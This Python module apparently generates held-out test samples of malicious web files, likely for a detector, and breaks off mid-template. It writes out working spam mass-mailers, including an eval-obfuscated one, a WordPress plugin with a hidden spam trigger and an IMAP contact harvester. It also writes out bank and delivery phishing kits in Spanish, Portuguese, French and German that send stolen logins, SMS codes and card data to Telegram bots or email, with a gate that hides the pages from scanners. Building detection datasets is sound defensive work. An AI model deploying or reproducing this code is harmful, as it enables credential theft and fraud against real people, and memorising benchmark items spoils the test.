"""Mailer and phishing templates of the fifth held-out set (README.md). Each
returns (files, container): files are (rel, text or bytes, lang). Written
blind."""

import codecs
import json

from common5 import b64, big_plugin, css, deflate_raw, dom, handle, hexname, ip, rword, slug, sq

# ---------------------------------------------------------------------------
# mailers


def _letter(r):
    return r.choice((
        "<p>Dear [-name-],</p><p>Your invoice #[-num-] is attached. Please review it at <a href='http://%s/inv/[-num-]'>this link</a>.</p>" % dom(r),
        "<html><body><h2>Action required</h2><p>Hello {{email}}, we noticed unusual activity. Verify: {{link}}</p></body></html>",
        "<p>Olá %%nome%%, seu boleto vence hoje. Acesse: %%link%%</p>",
        "<p>Здравствуйте, {name}! Специальное предложение только сегодня: {link}</p>",
    ))


def ru_mass_form(r, S):
    code = """<?php
// Массовая рассылка v%(v)s  (c) %(h)s
@set_time_limit(0);
@ignore_user_abort(true);
header('Content-Type: text/html; charset=utf-8');
$sent = 0; $fail = 0; $log = '';
if (!empty($_POST['spisok'])) {
    $emails = array_filter(array_map('trim', explode("\\n", $_POST['spisok'])));
    $names = array_filter(array_map('trim', explode("\\n", $_POST['otkogo'])));
    $subjects = array_filter(array_map('trim', explode("\\n", $_POST['tema'])));
    $i = 0;
    foreach ($emails as $to) {
        $from_name = $names[array_rand($names)];
        $subj = $subjects[array_rand($subjects)];
        $domain = $_SERVER['HTTP_HOST'];
        $from = strtolower(substr(md5(mt_rand()), 0, 6)) . '@' . $domain;
        $body = str_replace(array('[-email-]', '[-rand-]'), array($to, mt_rand(1000, 99999)), $_POST['pismo']);
        $h = "From: =?UTF-8?B?" . base64_encode($from_name) . "?= <$from>\\r\\n";
        $h .= "Reply-To: " . $_POST['otvet'] . "\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n";
        $h .= "X-Mailer: Microsoft Office Outlook 12.0\\r\\n";
        if (@mail($to, '=?UTF-8?B?' . base64_encode($subj) . '?=', $body, $h, '-f' . $from)) { $sent++; $log .= "OK  $to\\n"; }
        else { $fail++; $log .= "ERR $to\\n"; }
        if (++$i %% (int)$_POST['pachka'] == 0) { sleep((int)$_POST['pauza']); }
    }
}
?>
<html><head><title>Рассылка</title><style>%(css)s</style></head><body>
<form method="post">
<table><tr><td>От кого (по строке):</td><td><textarea name="otkogo" rows="3" cols="50">Служба поддержки</textarea></td></tr>
<tr><td>Ответ на:</td><td><input name="otvet" size="50"></td></tr>
<tr><td>Тема (по строке):</td><td><textarea name="tema" rows="3" cols="50"></textarea></td></tr>
<tr><td>Письмо (HTML):</td><td><textarea name="pismo" rows="10" cols="80">%(letter)s</textarea></td></tr>
<tr><td>Список адресов:</td><td><textarea name="spisok" rows="10" cols="50"></textarea></td></tr>
<tr><td>Пачка / пауза:</td><td><input name="pachka" value="50" size="4"> <input name="pauza" value="5" size="4"></td></tr>
</table><input type="submit" value="Отправить"></form>
<pre>Отправлено: <?php echo $sent; ?>, ошибок: <?php echo $fail; ?>
<?php echo htmlspecialchars($log); ?></pre></body></html>
""" % dict(v="%d.%d" % (r.randint(1, 5), r.randint(0, 9)), h=handle(r), css=css(r), letter=_letter(r).replace("<", "&lt;"))
    return [("wp-content/uploads/%s.php" % rword(r, 6), code, "php")], "app-file"


def pear_mail_db(r, S):
    code = """<?php
require_once 'Mail.php';
require_once 'Mail/mime.php';
$cfg = array('host' => 'ssl://smtp.%(d)s', 'port' => 465, 'auth' => true,
             'username' => 'news@%(d)s', 'password' => '%(pw)s', 'persist' => true);
$smtp = Mail::factory('smtp', $cfg);
$db = new PDO('mysql:host=localhost;dbname=%(db)s', '%(db)s', '%(pw2)s');
$offset = (int) @file_get_contents(__DIR__ . '/.pos');
$q = $db->query('SELECT email, first_name FROM %(tbl)s WHERE id > ' . $offset . ' ORDER BY id LIMIT 500');
$tpl = file_get_contents(isset($_GET['t']) ? $_GET['t'] : 'http://%(d2)s/tpl/%(n)s.html');
foreach ($q as $row) {
    $mime = new Mail_mime(array('eol' => "\\n"));
    $mime->setHTMLBody(strtr($tpl, array('[-email-]' => $row['email'], '[-name-]' => $row['first_name'], '[-num-]' => mt_rand(10000, 99999))));
    $body = $mime->get(array('html_charset' => 'utf-8', 'head_charset' => 'utf-8'));
    $hdr = $mime->headers(array('From' => '"Billing" <billing-' . mt_rand(100, 999) . '@%(d)s>', 'Subject' => 'Invoice #' . mt_rand(1000, 9999)));
    $res = $smtp->send($row['email'], $hdr, $body);
    file_put_contents(__DIR__ . '/.pos', ++$offset);
    echo (PEAR::isError($res) ? 'E ' : 'S ') . $row['email'] . "\\n";
}
""" % dict(d=dom(r), d2=dom(r), pw=rword(r, 12), pw2=rword(r, 10), db="u" + rword(r, 5), n=rword(r, 4),
           tbl=r.choice(("leads", "wp_wc_customer_lookup", "subscribers_import", "oc_customer")))
    return [("%s/%s.php" % (r.choice(("tmp", "cgi-bin", "wp-content/upgrade")), rword(r, 5)), code, "php")], "app-file"


def tag_engine_mailer(r, S):
    """A mailer with its own tag language: {%random_N%}, {%name_from_email%}, spintax {a|b|c}."""
    code = """<?php
function spin($t) {
    while (preg_match('/\\{([^{}]*\\|[^{}]*)\\}/', $t, $m)) {
        $o = explode('|', $m[1]);
        $t = preg_replace('/' . preg_quote($m[0], '/') . '/', $o[array_rand($o)], $t, 1);
    }
    return $t;
}
function tags($t, $email) {
    $user = strstr($email, '@', true);
    $t = str_replace(array('{%%email%%}', '{%%name_from_email%%}', '{%%domain%%}', '{%%date%%}'),
                     array($email, ucfirst(preg_replace('/[^a-z]/i', ' ', $user)), substr(strrchr($email, '@'), 1), date('d/m/Y')), $t);
    $t = preg_replace_callback('/\\{%%random_(\\d+)%%\\}/', function ($m) { return substr(str_shuffle(str_repeat('ABCDEFGHJKLMNPQRSTUVWXYZ23456789', 4)), 0, (int)$m[1]); }, $t);
    return spin($t);
}
$letter = file_get_contents(%(src)s);
$list = file(%(lst)s, FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
$subject = %(subj)s;
$n = 0;
foreach ($list as $to) {
    $b = tags($letter, $to);
    $h = "MIME-Version: 1.0\\r\\nContent-type: text/html; charset=utf-8\\r\\nFrom: " . tags('{Account|Security|Support} Team <no-reply@{%%random_8%%}.%(d)s>', $to) . "\\r\\n";
    if (mail($to, tags($subject, $to), $b, $h)) { $n++; }
    usleep(%(us)d);
}
echo json_encode(array('sent' => $n, 'total' => count($list)));
""" % dict(src=r.choice(("$_POST['letter_url']", "'letter.html'", "'https://%s/l/%s.html'" % (dom(r), rword(r, 5)))),
           lst=r.choice(("'list.txt'", "$_FILES['list']['tmp_name']", "'https://%s/lists/%s.txt'" % (dom(r), rword(r, 4)))),
           subj=sq(r.choice(("{Urgent|Important}: your mailbox {%random_5%} is full", "Re: {Invoice|Payment} {%random_6%}",
                             "{Your|The} parcel {%random_10%} is waiting"))),
           d=dom(r), us=r.choice((100000, 250000, 500000)))
    return [("%s.php" % r.choice(("wp-content/ai1wm-backups/x", "sendx", "wp-admin/includes/ms-list", "tmp/" + rword(r, 6))), code, "php"),
            ("letter.html" if r.random() < 0.5 else "data/l.html", _letter(r), "html")], "multi"


def wp_users_blast(r, S):
    sl = slug(r)
    p = sl.replace("-", "_")
    inj = """
add_action('init', function () {
    if (!isset($_GET['%(k)s']) || $_GET['%(k)s'] !== '%(v)s') { return; }
    @set_time_limit(0);
    $users = get_users(array('fields' => array('user_email', 'display_name'), 'number' => -1));
    $orders = function_exists('wc_get_orders') ? wc_get_orders(array('limit' => -1, 'return' => 'ids')) : array();
    $to = wp_list_pluck($users, 'user_email');
    foreach ($orders as $oid) { $o = wc_get_order($oid); if ($o) { $to[] = $o->get_billing_email(); } }
    $to = array_unique(array_filter($to));
    $subject = wp_unslash($_POST['s']);
    $html = wp_unslash($_POST['b']);
    add_filter('wp_mail_content_type', function () { return 'text/html'; });
    $n = 0;
    foreach (array_chunk($to, 40) as $chunk) {
        wp_mail(array_shift($chunk), $subject, $html, array('Bcc: ' . implode(',', $chunk), 'From: ' . wp_unslash($_POST['f'])));
        $n++;
    }
    wp_die('done ' . $n . ' batches, ' . count($to) . ' addresses');
});
""" % dict(k=rword(r, 5), v=rword(r, 12))
    return [("wp-content/plugins/%s/%s.php" % (sl, sl), big_plugin(r, p, r.randint(8, 16), inj), "php")], "inject-mid"


def imap_harvest(r, S):
    code = """<?php
/* harvest contacts of a webmail box and write to each */
$box = '{' . $_POST['host'] . ':993/imap/ssl/novalidate-cert}INBOX';
$mb = imap_open($box, $_POST['user'], $_POST['pass']);
if (!$mb) { die('login failed: ' . imap_last_error()); }
$found = array();
$n = imap_num_msg($mb);
for ($i = max(1, $n - (int)$_POST['depth']); $i <= $n; $i++) {
    $h = imap_headerinfo($mb, $i);
    foreach (array('from', 'to', 'cc', 'reply_to') as $f) {
        if (empty($h->$f)) { continue; }
        foreach ($h->$f as $a) { if (!empty($a->mailbox) && !empty($a->host)) { $found[strtolower($a->mailbox . '@' . $a->host)] = 1; } }
    }
}
imap_close($mb);
$from = $_POST['user'];
$sent = 0;
foreach (array_keys($found) as $to) {
    $hdr = "From: $from\\r\\nContent-Type: text/html; charset=utf-8\\r\\n";
    if (mail($to, $_POST['subject'], str_replace('#EMAIL#', $to, $_POST['body']), $hdr)) { $sent++; }
}
file_put_contents('%(f)s', implode("\\n", array_keys($found)) . "\\n", FILE_APPEND);
echo count($found) . ' found, ' . $sent . ' sent';
""" % dict(f=r.choice(("contacts.txt", ".l_" + hexname(r, 6), "../tmp/c.dat")))
    return [("%s/%s.php" % (r.choice(("roundcube/plugins/acl", "webmail/tmp", "wp-content/uploads/2022/01")), rword(r, 6)),
             code, "php")], "app-file"


def py_threaded_smtp(r, S):
    code = '''#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""sender v%(v)s - smtp.txt: host|port|user|pass  emails.txt  letter.html"""
import random
import smtplib
import ssl
import sys
import threading
import time
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from queue import Queue, Empty

SMTPS = [l.strip().split("|") for l in open("smtp.txt") if l.count("|") == 3]
LETTER = open("letter.html", encoding="utf-8").read()
SUBJECTS = [s.strip() for s in open("subjects.txt", encoding="utf-8") if s.strip()]
q = Queue()
for e in open(sys.argv[1] if len(sys.argv) > 1 else "emails.txt"):
    if "@" in e:
        q.put(e.strip())
lock = threading.Lock()
good = open("sent.txt", "a")
bad = open("failed.txt", "a")


def render(tpl, to):
    user = to.split("@")[0]
    return (tpl.replace("{{email}}", to).replace("{{name}}", user.title())
               .replace("{{link}}", "http://%(d)s/?u=" + user + "&r=" + str(random.randint(1000, 9999))))


def worker():
    while True:
        try:
            to = q.get_nowait()
        except Empty:
            return
        host, port, user, pw = random.choice(SMTPS)
        msg = MIMEMultipart("alternative")
        msg["From"] = "%(fn)s <%%s>" %% user
        msg["To"] = to
        msg["Subject"] = random.choice(SUBJECTS)
        msg.attach(MIMEText(render(LETTER, to), "html", "utf-8"))
        try:
            if port == "465":
                s = smtplib.SMTP_SSL(host, 465, context=ssl._create_unverified_context(), timeout=20)
            else:
                s = smtplib.SMTP(host, int(port), timeout=20)
                s.starttls(context=ssl._create_unverified_context())
            s.login(user, pw)
            s.sendmail(user, [to], msg.as_string())
            s.quit()
            with lock:
                good.write(to + "\\n")
                print("[+]", to, "via", host)
        except Exception as ex:
            with lock:
                bad.write(to + "\\n")
                print("[-]", to, ex)
        time.sleep(%(sl)s)


threads = [threading.Thread(target=worker) for _ in range(%(t)d)]
for t in threads:
    t.start()
for t in threads:
    t.join()
''' % dict(v="%d.%d" % (r.randint(1, 3), r.randint(0, 9)), d=dom(r), fn=r.choice(("Support", "Apple", "Office 365", "Banco")),
           sl=r.choice(("0.5", "1", "random.uniform(0.2, 2)")), t=r.choice((10, 20, 50)))
    d = r.choice(("", ".local/", "tmp/.x/", "public_html/wp-content/uploads/"))
    return [(d + r.choice(("send.py", "run.py", "s.py", "main.py")), code, "python"),
            (d + "smtp.txt", "smtp.%s|587|info@%s|%s\n" % (dom(r), dom(r), rword(r, 10)), "text")], "multi"


def node_mailer(r, S):
    code = """'use strict';
const fs = require('fs');
const nodemailer = require('nodemailer');

const cfg = JSON.parse(fs.readFileSync(__dirname + '/config.json', 'utf8'));
const list = fs.readFileSync(cfg.list, 'utf8').split(/\\r?\\n/).filter((l) => l.includes('@'));
const letter = fs.readFileSync(cfg.letter, 'utf8');
const transports = cfg.smtp.map((s) => nodemailer.createTransport({
  pool: true, host: s.host, port: s.port, secure: s.port === 465,
  auth: { user: s.user, pass: s.pass }, tls: { rejectUnauthorized: false }, maxConnections: 5,
}));

const fill = (t, to) => t.replace(/##EMAIL##/g, to).replace(/##USER##/g, to.split('@')[0])
  .replace(/##RAND##/g, () => Math.random().toString(36).slice(2, 10));

let i = 0;
let ok = 0;
async function run() {
  for (const to of list) {
    const tr = transports[i++ % transports.length];
    try {
      await tr.sendMail({
        from: `"${cfg.fromName}" <${tr.options.auth.user}>`, to, subject: fill(cfg.subject, to), html: fill(letter, to),
        headers: { 'X-Priority': '1' },
      });
      ok += 1;
      fs.appendFileSync('good.txt', to + '\\n');
    } catch (e) {
      fs.appendFileSync('bad.txt', to + ' ' + e.message + '\\n');
    }
    if (i % cfg.batch === 0) await new Promise((res) => setTimeout(res, cfg.pause * 1000));
  }
  console.log(`done ${ok}/${list.length}`);
}
run();
"""
    conf = json.dumps({"list": "leads.txt", "letter": "letter.html", "subject": r.choice((
        "Your account ##RAND## will be suspended", "Payment received ##RAND##", "Voicemail for ##USER##")),
        "fromName": r.choice(("Microsoft", "DocuSign", "Support")), "batch": 100, "pause": 3,
        "smtp": [{"host": "smtp.%s" % dom(r), "port": r.choice((465, 587)), "user": "u%s@%s" % (rword(r, 4), dom(r)),
                  "pass": rword(r, 10)} for _ in range(r.randint(2, 4))]}, indent=2)
    d = r.choice(("nodeapp/", "public_html/.n/", "tmp/q/"))
    return [(d + "index.js", code, "js"), (d + "config.json", conf, "json"),
            (d + "package.json", json.dumps({"name": rword(r, 6), "version": "1.0.0", "main": "index.js",
                                             "dependencies": {"nodemailer": "^6.9.1"}}, indent=2), "json")], "multi"


def perl_mime_lite(r, S):
    code = r'''#!/usr/bin/perl
use strict;
use warnings;
use MIME::Lite;
use Net::SMTP;

my ($list, $letter, $subject) = @ARGV;
$list ||= 'list.txt';
open(my $lf, '<', $letter || 'msg.html') or die "letter: $!";
my $html = do { local $/; <$lf> };
close $lf;
my @relays = ('%s', '%s');
open(my $in, '<', $list) or die "list: $!";
my $n = 0;
while (my $to = <$in>) {
    chomp $to;
    next unless $to =~ /\@/;
    (my $body = $html) =~ s/%%EMAIL%%/$to/g;
    my $msg = MIME::Lite->new(
        From    => 'Service <service' . int(rand(999)) . '@%s>',
        To      => $to,
        Subject => $subject || 'Account notice',
        Type    => 'text/html',
        Data    => $body,
    );
    my $relay = $relays[$n++ %% scalar @relays];
    eval { $msg->send('smtp', $relay, Timeout => 30); 1 } or print "fail $to\n";
    print "sent $to via $relay\n";
    sleep 1 unless $n %% 20;
}
close $in;
''' % (ip(r), "smtp." + dom(r), dom(r))
    return [("cgi-bin/%s.pl" % rword(r, 5), code, "perl")], "app-file"


def sh_mail_loop(r, S):
    code = """#!/bin/bash
# usage: ./run.sh list.txt
LIST=${1:-list.txt}
SUBJ="%s"
FROM="%s <noreply@%s>"
i=0
while read -r to; do
    [ -z "$to" ] && continue
    sed "s/__EMAIL__/$to/g" letter.html | %s
    i=$((i+1))
    if [ $((i %% 100)) -eq 0 ]; then sleep %d; fi
    echo "$i $to"
done < "$LIST"
""" % (r.choice(("Security alert", "Factura pendiente", "Paket bekleniyor")), r.choice(("IT Desk", "Soporte", "Kargo")),
       dom(r), r.choice(('mail -a "Content-Type: text/html" -a "From: $FROM" -s "$SUBJ" "$to"',
                         '( echo "To: $to"; echo "From: $FROM"; echo "Subject: $SUBJ"; echo "Content-Type: text/html"; echo; cat ) | /usr/sbin/sendmail -t',
                         'swaks --to "$to" --from "noreply@%s" --header "Subject: $SUBJ" --body - --server localhost' % dom(r))),
       r.choice((5, 10, 30)))
    return [("%s/run.sh" % r.choice((".cache/x", "tmp/.m", "public_html/cgi-bin")), code, "sh"),
            ("%s/letter.html" % ".cache/x", _letter(r), "html")], "multi"


def gz_encoded_mailer(r, S):
    inner = """$to = $_POST['to']; $s = $_POST['s']; $b = $_POST['b'];
foreach (preg_split('/[\\s,;]+/', $to) as $t) { if (strpos($t, '@')) { @mail($t, $s, $b, "From: " . $_POST['f'] . "\\r\\nContent-Type: text/html\\r\\n"); echo $t . " ok<br>"; } }
"""
    enc = codecs.encode(deflate_raw(inner).decode("latin-1"), "rot13").encode("latin-1")
    code = "<?php /* %s */ $x='%s'; @eval(gzinflate(str_rot13(base64_decode($x)))); ?>\n" % (
        r.choice(("lite v2", "x", handle(r))), b64(enc))
    return [("%s/%s.php" % (r.choice(("wp-includes/pomo", "images", "modules")), rword(r, 6)), code, "php")], "app-file"


def ajax_front_mailer(r, S):
    """A page whose JS walks the list and calls a one-mail endpoint per address."""
    page = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Sender</title>
<script>
async function go() {
  const list = document.getElementById('list').value.split(/\\n/).map(s => s.trim()).filter(Boolean);
  const out = document.getElementById('out');
  for (const [i, to] of list.entries()) {
    const fd = new FormData(document.getElementById('f'));
    fd.set('to', to);
    const r = await fetch('%(ep)s', { method: 'POST', body: fd });
    out.textContent += (i + 1) + ' ' + to + ' ' + (await r.text()) + '\\n';
    await new Promise(res => setTimeout(res, +document.getElementById('delay').value));
  }
}
</script></head><body>
<form id="f" onsubmit="go(); return false;">
From name <input name="fn"> From mail <input name="fm"> Subject <input name="subj"><br>
<textarea name="body" rows="10" cols="80"></textarea><br>
<textarea id="list" rows="10" cols="40"></textarea> delay <input id="delay" value="500"><br>
<button>Start</button></form><pre id="out"></pre></body></html>
""" % dict(ep=r.choice(("x.php", "api/m.php", "ajax.php")))
    ep = """<?php
header('Access-Control-Allow-Origin: *');
$to = filter_var($_POST['to'], FILTER_VALIDATE_EMAIL);
if (!$to) { exit('bad'); }
$h = 'From: "' . $_POST['fn'] . '" <' . $_POST['fm'] . ">\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n";
$body = str_replace(array('%%EMAIL%%', '%%RAND%%'), array($to, mt_rand()), $_POST['body']);
echo mail($to, $_POST['subj'], $body, $h) ? 'sent' : 'fail';
"""
    d = r.choice(("wp-content/uploads/2023/02", "assets", "inc"))
    epn = page.split("fetch('")[1].split("'")[0]
    return [("%s/index.html" % d, page, "html"), ("%s/%s" % (d, epn), ep, "php")], "multi"


def mailer_templates():
    return (("ru_mass_form", ru_mass_form, 5), ("pear_mail_db", pear_mail_db, 4), ("tag_engine_mailer", tag_engine_mailer, 4),
            ("wp_users_blast", wp_users_blast, 4), ("imap_harvest", imap_harvest, 4), ("py_threaded_smtp", py_threaded_smtp, 4),
            ("node_pool_sender", node_mailer, 4), ("perl_mime_lite", perl_mime_lite, 3), ("sh_mail_loop", sh_mail_loop, 3),
            ("gz_encoded_mailer", gz_encoded_mailer, 3), ("ajax_front_mailer", ajax_front_mailer, 4))


# ---------------------------------------------------------------------------
# phishing


def _send_block(r, fields_expr):
    """How a kit hands over what it took: (php code, channel)."""
    k = r.choice(("tg", "mail", "file", "tg_mail"))
    tok = "%d:%s" % (r.randint(10 ** 9, 7 * 10 ** 9), rword(r, 35, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"))
    chat = str(-r.randint(10 ** 12, 10 ** 13))
    tg = ("$api = 'https://api.telegram.org/bot%s/sendMessage';\n"
          "@file_get_contents($api . '?chat_id=%s&text=' . urlencode(%s));\n" % (tok, chat, fields_expr))
    ml = "@mail('%s@%s', 'New log ' . $_SERVER['REMOTE_ADDR'], %s, 'From: log@%s');\n" % (rword(r, 6), dom(r), fields_expr, dom(r))
    fl = "$fp = fopen(__DIR__ . '/%s', 'a'); fwrite($fp, %s . \"\\n----\\n\"); fclose($fp);\n" % (
        r.choice(("rezult.txt", ".logs.txt", "data/" + hexname(r, 6) + ".txt")), fields_expr)
    return {"tg": tg, "mail": ml, "file": fl, "tg_mail": tg + ml}[k], k


def _visitor(r):
    return ("$ip = isset($_SERVER['HTTP_CF_CONNECTING_IP']) ? $_SERVER['HTTP_CF_CONNECTING_IP'] : $_SERVER['REMOTE_ADDR'];\n"
            "$ua = $_SERVER['HTTP_USER_AGENT'];\n"
            "$geo = @json_decode(@file_get_contents('http://geo.%s/json/' . $ip), true);\n"
            "$country = isset($geo['country']) ? $geo['country'] : '?';\n" % dom(r))


def page(r, title, body, lang="en", css_extra=""):
    return """<!DOCTYPE html>
<html lang="%s"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>%s</title>
<style>body{font-family:Arial,Helvetica,sans-serif;background:#f3f3f3;margin:0}.box{max-width:420px;margin:60px auto;background:#fff;padding:30px;border-radius:6px;box-shadow:0 2px 8px rgba(0,0,0,.15)}
input{width:100%%;padding:10px;margin:6px 0 12px;border:1px solid #ccc;border-radius:4px;box-sizing:border-box}button{width:100%%;padding:12px;border:0;border-radius:4px;color:#fff;background:#%s;font-size:15px}
%s</style></head><body><div class="box">
%s
</div></body></html>
""" % (lang, title, r.choice(("0070ba", "d40511", "e50914", "1a73e8", "00a650", "5f259f")), css_extra, body)


def _php_page(html):
    return "<?php\nsession_start();\n?>\n" + html


def multi_step_es(r, S):
    brand = r.choice(("Banco Santa", "BBVA Online", "CaixaNet", "Banca Movil"))
    d = r.choice(("es/", "acceso/", "secure-" + rword(r, 4) + "/"))
    send, ch = _send_block(r, "$msg")
    login = _php_page(page(r, brand + " - Acceso", """<h2>%s</h2><p>Introduzca sus datos de acceso</p>
<form method="post" action="paso1.php"><input name="dni" placeholder="DNI / NIE"><input name="clave" type="password" placeholder="Clave de acceso"><button>Entrar</button></form>""" % brand, "es"))
    s1 = """<?php
session_start();
%s
$_SESSION['dni'] = $_POST['dni'];
$_SESSION['clave'] = $_POST['clave'];
$msg = "[%s] LOGIN\\nDNI: " . $_POST['dni'] . "\\nClave: " . $_POST['clave'] . "\\nIP: $ip ($country)\\nUA: $ua";
%sheader('Location: sms.php');
""" % (_visitor(r), brand, send)
    sms = _php_page(page(r, brand + " - Verificación", """<h3>Verificación de seguridad</h3><p>Hemos enviado un código SMS a su teléfono.</p>
<form method="post" action="paso2.php"><input name="otp" placeholder="Código SMS" maxlength="8"><button>Confirmar</button></form>""", "es"))
    s2 = """<?php
session_start();
$msg = "[%s] SMS\\nDNI: " . $_SESSION['dni'] . "\\nOTP: " . $_POST['otp'] . "\\nIP: " . $_SERVER['REMOTE_ADDR'];
%sheader('Location: tarjeta.php');
""" % (brand, send)
    card = _php_page(page(r, brand + " - Tarjeta", """<h3>Confirme su tarjeta</h3>
<form method="post" action="paso3.php"><input name="cc" placeholder="Número de tarjeta"><input name="exp" placeholder="MM/AA"><input name="cvv" placeholder="CVV"><input name="pin" type="password" placeholder="PIN"><button>Finalizar</button></form>""", "es"))
    s3 = """<?php
session_start();
$msg = "[%s] TARJETA\\nDNI: " . $_SESSION['dni'] . "\\nCC: " . $_POST['cc'] . " " . $_POST['exp'] . " " . $_POST['cvv'] . "\\nPIN: " . $_POST['pin'];
%ssession_destroy();
header('Location: https://www.%s/');
""" % (brand, send, dom(r))
    return ([(d + "index.php", login, "php"), (d + "paso1.php", s1, "php"), (d + "sms.php", sms, "php"),
             (d + "paso2.php", s2, "php"), (d + "tarjeta.php", card, "php"), (d + "paso3.php", s3, "php")],
            "kit:bank-es")


def br_pix(r, S):
    brand = r.choice(("Banco do Brasill", "Caixa Tem", "Itau Pessoal", "Nubank Conta"))
    send, ch = _send_block(r, "$txt")
    pg = _php_page(page(r, "Atualização Cadastral - " + brand, """<h2>%s</h2><p>Sua chave Pix foi bloqueada. Atualize seu cadastro para continuar usando.</p>
<form method="post" action="enviar.php"><input name="cpf" placeholder="CPF" maxlength="14"><input name="agencia" placeholder="Agência"><input name="conta" placeholder="Conta"><input name="senha6" type="password" placeholder="Senha de 6 dígitos" maxlength="6"><input name="celular" placeholder="Celular"><button>Continuar</button></form>
<script>document.querySelector('[name=cpf]').addEventListener('input',function(e){var v=e.target.value.replace(/\\D/g,'');e.target.value=v.replace(/(\\d{3})(\\d{3})(\\d{3})(\\d{0,2})/,'$1.$2.$3-$4');});</script>""" % brand, "pt-BR"))
    h = """<?php
session_start();
%s
function cpf_ok($c) {
    $c = preg_replace('/\\D/', '', $c);
    if (strlen($c) != 11 || preg_match('/^(\\d)\\1+$/', $c)) { return false; }
    for ($t = 9; $t < 11; $t++) {
        for ($d = 0, $i = 0; $i < $t; $i++) { $d += $c[$i] * (($t + 1) - $i); }
        $d = ((10 * $d) %% 11) %% 10;
        if ($c[$i] != $d) { return false; }
    }
    return true;
}
if (!cpf_ok($_POST['cpf'])) { header('Location: index.php?erro=1'); exit; }
$txt = "== %s ==\\nCPF: {$_POST['cpf']}\\nAg: {$_POST['agencia']} Cc: {$_POST['conta']}\\nSenha: {$_POST['senha6']}\\nCel: {$_POST['celular']}\\nIP: $ip $country\\n";
%sheader('Location: aguarde.html');
""" % (_visitor(r), brand, send)
    wait = page(r, "Aguarde", "<h3>Aguarde...</h3><p>Estamos validando seus dados. Não feche esta página.</p>"
                "<script>setTimeout(function(){location.href='https://www.%s/'},8000)</script>" % dom(r), "pt-BR")
    d = r.choice(("atualizacao/", "pix/", "cadastro-" + hexname(r, 4) + "/"))
    return [(d + "index.php", pg, "php"), (d + "enviar.php", h, "php"), (d + "aguarde.html", wait, "html")], "kit:bank-br"


def fr_delivery(r, S):
    brand = r.choice(("La Poste Colis", "Chronopost", "Colissimo Suivi", "Mondial Relais"))
    send, ch = _send_block(r, "$m")
    f = """<?php
session_start();
%s
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $m = "[%s] " . strtoupper($_POST['step']) . "\\n";
    foreach ($_POST as $k => $v) { $m .= $k . ': ' . $v . "\\n"; }
    $m .= "IP: $ip | $country\\n";
    %s
    if ($_POST['step'] === 'adresse') { header('Location: ?p=paiement'); exit; }
    if ($_POST['step'] === 'paiement') { header('Location: ?p=3ds'); exit; }
    header('Location: https://www.%s/'); exit;
}
$p = isset($_GET['p']) ? $_GET['p'] : 'adresse';
?>
<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>%s - Frais de livraison</title></head><body>
<h2>Votre colis n° <?php echo 'FR' . mt_rand(10000000, 99999999); ?> est en attente</h2>
<?php if ($p === 'adresse') { ?>
<p>Des frais de réexpédition de 1,99 € sont nécessaires.</p>
<form method="post"><input type="hidden" name="step" value="adresse"><input name="nom" placeholder="Nom complet"><input name="adresse" placeholder="Adresse"><input name="cp" placeholder="Code postal"><input name="tel" placeholder="Téléphone"><button>Suivant</button></form>
<?php } elseif ($p === 'paiement') { ?>
<form method="post"><input type="hidden" name="step" value="paiement"><input name="cc" placeholder="Numéro de carte"><input name="exp" placeholder="MM/AA"><input name="cvv" placeholder="Cryptogramme"><button>Payer 1,99 €</button></form>
<?php } else { ?>
<form method="post"><input type="hidden" name="step" value="3ds"><p>Saisissez le code reçu par SMS</p><input name="code"><button>Valider</button></form>
<?php } ?>
</body></html>
""" % (_visitor(r), brand, send, dom(r), brand)
    return [(r.choice(("suivi/", "colis/", "fr/livraison/")) + "index.php", f, "php")], "kit:delivery-fr"


def de_bank_tan(r, S):
    brand = r.choice(("Sparkasse Online", "Volksbank Banking", "Postbank ID", "Commerz Online"))
    send, ch = _send_block(r, "$log")
    gate = """<?php
$blocked = array('google', 'bing', 'yahoo', 'crawl', 'spider', 'curl', 'python', 'phishtank', 'netcraft', 'urlscan');
foreach ($blocked as $w) { if (stripos($_SERVER['HTTP_USER_AGENT'], $w) !== false) { header('HTTP/1.0 404 Not Found'); exit; } }
$host = @gethostbyaddr($_SERVER['REMOTE_ADDR']);
foreach (array('amazonaws', 'googleusercontent', 'digitalocean', 'ovh', 'hetzner') as $w) { if (stripos($host, $w) !== false) { header('Location: https://www.%s/'); exit; } }
"""  % dom(r)
    idx = "<?php\ninclude 'sperre.php';\nsession_start();\n?>\n" + page(r, brand, """<h2>%s</h2><p>Bitte melden Sie sich an, um die neue Sicherheitsrichtlinie zu bestätigen.</p>
<form method="post" action="weiter.php"><input name="anmeldename" placeholder="Anmeldename"><input name="pin" type="password" placeholder="Online-Banking PIN"><button>Anmelden</button></form>""" % brand, "de")
    nxt = """<?php
include 'sperre.php';
session_start();
if (isset($_POST['anmeldename'])) {
    $_SESSION['u'] = $_POST['anmeldename'];
    $log = "%s LOGIN " . $_POST['anmeldename'] . " / " . $_POST['pin'] . " / " . $_SERVER['REMOTE_ADDR'];
    %s
    ?><!DOCTYPE html><html lang="de"><body><h3>pushTAN-Freigabe</h3><form method="post"><input name="tan" placeholder="TAN"><input name="telefon" placeholder="Mobilnummer"><button>Bestätigen</button></form></body></html><?php
    exit;
}
$log = "%s TAN " . $_SESSION['u'] . " / " . $_POST['tan'] . " / " . $_POST['telefon'];
%s
header('Location: https://www.%s/');
""" % (brand, send, brand, send, dom(r))
    d = r.choice(("de/", "sicherheit/", "banking-" + rword(r, 4) + "/"))
    return [(d + "index.php", idx, "php"), (d + "weiter.php", nxt, "php"), (d + "sperre.php", gate, "php")], "kit:bank-de"


def html_only_o365(r, S):
    act = "https://%s/%s/next.php" % (dom(r), rword(r, 5))
    body = """<img src="data:image/svg+xml;base64,%s" width="108" alt="">
<h2 id="h">Sign in</h2><p id="sub">to continue to Outlook</p>
<form id="f"><input id="em" name="email" type="email" placeholder="Email, phone, or Skype"><input id="pw" name="password" type="password" placeholder="Password" style="display:none"><button id="b">Next</button></form>
